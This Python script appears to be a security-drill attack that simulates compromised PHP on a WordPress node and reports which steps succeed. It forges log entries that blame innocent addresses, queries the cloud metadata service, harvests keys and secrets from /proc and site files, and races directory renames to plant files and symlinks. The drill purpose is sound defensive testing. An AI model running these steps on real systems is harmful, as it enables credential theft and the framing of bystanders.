"""The attack of code that runs in PHP on a node. Runs on the node as www-data, without imports of this project.

Usage: python3 -c SCRIPT. Standard input: one line of JSON, the fields of `Orders` in
rehearsal/drills/attacks/compromised_php.py. Standard output: one line of JSON, what succeeded:
{"logs": [channels], "connections": [addresses], "metadata": [paths], "secrets": [files], "planted": [names]}.
"""

import concurrent.futures
import contextlib
import glob
import http.client
import json
import os
import re
import socket
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

PRIVATE_KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----(\s|\\n)+[A-Za-z0-9+/=]{40}")
"""A key, also in JSON, where a line's end is written as a backslash and an n."""
LARGEST = 1_000_000
"""Bytes of a file; larger ones are left out, such as logs and databases of packages."""


def forge_hits(orders: dict[str, Any]) -> list[str]:
    """Send hits of addresses that attacked nothing to every input of the hit log; returns the inputs that took them."""
    lines = [
        f"<190>Nov 25 00:00:00 node hits: {time.time():.3f} {address} POST /wp-login.php 200".encode()
        for address in orders["accused"]
        for _ in range(orders["hits"])
    ]
    port = orders["hits_port"]

    def datagrams(family: int, target: Any) -> None:
        with socket.socket(family, socket.SOCK_DGRAM) as sender:
            # a connected socket reports the refusal of an earlier datagram
            sender.connect(target)
            for line in lines:
                sender.send(line)
                time.sleep(0.002)

    def stream(host: str) -> None:
        with socket.create_connection((host, port), timeout=2) as connection:
            connection.sendall(b"\n".join([*lines, b""]))

    opened = [f"UDP 127.0.0.1:{port}"] if succeeds(datagrams, socket.AF_INET, ("127.0.0.1", port)) else []
    opened += [f"TCP {host}:{port}" for host in ("127.0.0.1", *orders["hosts"]) if succeeds(stream, host)]
    sockets = glob.glob("/run/ha-wordpress/hits*")
    return opened + [path for path in sockets if succeeds(datagrams, socket.AF_UNIX, path)]


def succeeds(action: Callable[..., None], *arguments: Any) -> bool:
    try:
        action(*arguments)
    except OSError:
        return False
    return True


def open_connections(targets: list[list[Any]]) -> list[str]:
    """Connect to TCP ports, all at once; returns the targets that accept."""

    def refuses(target: list[Any]) -> bool:
        return not succeeds(lambda: socket.create_connection((target[0], target[1]), timeout=2).close())

    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        refusals = list(pool.map(refuses, targets))
    return [f"{host}:{port}" for (host, port), refused in zip(targets, refusals, strict=True) if not refused]


def ask_metadata(address: str) -> list[str]:
    """Ask the cloud's metadata service for this machine's user data; returns the paths that it answered."""

    def ask(method: str, path: str, headers: dict[str, str]) -> tuple[int, bytes]:
        connection = http.client.HTTPConnection(address, timeout=2)
        connection.request(method, path, headers=headers)
        answer = connection.getresponse()
        return answer.status, answer.read()

    try:
        _, token = ask("PUT", "/latest/api/token", {"X-aws-ec2-metadata-token-ttl-seconds": "60"})
        headers = {"X-aws-ec2-metadata-token": token.decode()}
        paths = ("/latest/user-data", "/metadata/v1/user-data")
        return [path for path in paths if ask("GET", path, headers)[0] == 200]
    except OSError:
        return []


def find_secrets(root: str, places: list[str], known: list[str]) -> list[str]:
    """The readable files with a private key or a secret of the site, but for the configuration that PHP must read."""
    configuration = f"{root}/wp-config.php"
    with open(configuration) as file:
        values = re.findall(r"define\(\s*'(?:DB_PASSWORD|[A-Z_]+_(?:KEY|SALT))',\s*'([^']{12,})'", file.read())
    wanted = [value.encode() for value in {*values, *known}]

    def holds_secret(path: str) -> bool:
        try:
            with open(path, "rb") as file:
                content = file.read(LARGEST)
        except OSError:
            return False
        return bool(PRIVATE_KEY.search(content)) or any(value in content for value in wanted)

    return [path for path in readable_files(root, places) if path != configuration and holds_secret(path)]


def readable_files(root: str, places: list[str]) -> Iterator[str]:
    own = {f"/proc/{os.getpid()}/environ", f"/proc/{os.getpid()}/cmdline"}
    for path in (*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")):
        if path not in own:
            yield path
    for directory in (root, f"{root}/.ha-wordpress", f"{root}/wp-content"):
        with contextlib.suppress(OSError):
            yield from (entry.path for entry in os.scandir(directory) if entry.is_file(follow_symlinks=False))
    for place in places:
        for directory, _, names in os.walk(place):
            for path in (f"{directory}/{name}" for name in names):
                with contextlib.suppress(OSError):
                    status = os.lstat(path)
                    if status.st_mode & 0o170000 == 0o100000 and status.st_size <= LARGEST:
                        yield path


def plant_bans(state: str, facts: list[str], seconds: float) -> list[str]:
    """Put a directory of own ban facts in the place of the shared one, again and again: one reader may look at the real
    directory's owner and then read the other's names. The planted directory is the one that stays.
    """
    shared, planted, aside = f"{state}/bans", f"{state}/planted", f"{state}/bans.aside"
    try:
        # where the site has no such directory, a step may still look for it
        os.makedirs(state, exist_ok=True)
        os.mkdir(planted, 0o700)
        for fact in facts:
            open(f"{planted}/{fact}", "w").close()
    except OSError:
        return []
    end = time.monotonic() + seconds
    try:
        while True:
            with contextlib.suppress(FileNotFoundError):
                os.rename(shared, aside)
            os.rename(planted, shared)
            if time.monotonic() > end:
                return ["bans"]
            time.sleep(0.01)
            os.rename(shared, planted)
            with contextlib.suppress(FileNotFoundError):
                os.rename(aside, shared)
            time.sleep(0.01)
    except OSError:
        return []


def plant_links(links: dict[str, str]) -> list[str]:
    """Put links in the place of files; returns those that it could plant."""

    def plant(path: str) -> None:
        with contextlib.suppress(FileNotFoundError):
            os.rename(path, f"{path}.aside")
        os.symlink(links[path], path)

    return [path for path in links if succeeds(plant, path)]


def main() -> None:
    orders = json.loads(sys.stdin.readline())
    found = {
        "logs": forge_hits(orders),
        "connections": open_connections(orders["storage"]),
        "metadata": ask_metadata(orders["metadata"]),
        "secrets": find_secrets(orders["root"], orders["places"], orders["secrets"]),
        "planted": plant_bans(orders["state"], orders["facts"], orders["seconds"]) + plant_links(orders["links"]),
    }
    print(json.dumps(found))


main()
